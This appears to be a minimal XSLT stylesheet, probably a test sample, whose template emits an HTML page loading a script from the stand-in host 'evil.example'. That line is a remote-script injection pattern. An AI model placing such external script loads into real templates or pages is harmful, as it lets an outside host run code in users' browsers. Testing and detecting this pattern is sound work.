<?xml version="1.0" encoding="UTF-8"?>
<!-- A script from elsewhere. -->
<xsl:stylesheet version="1.0"
    xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/page">
    <html><body><script src="https://evil.example/x.js"/></body></html>
  </xsl:template>
</xsl:stylesheet>
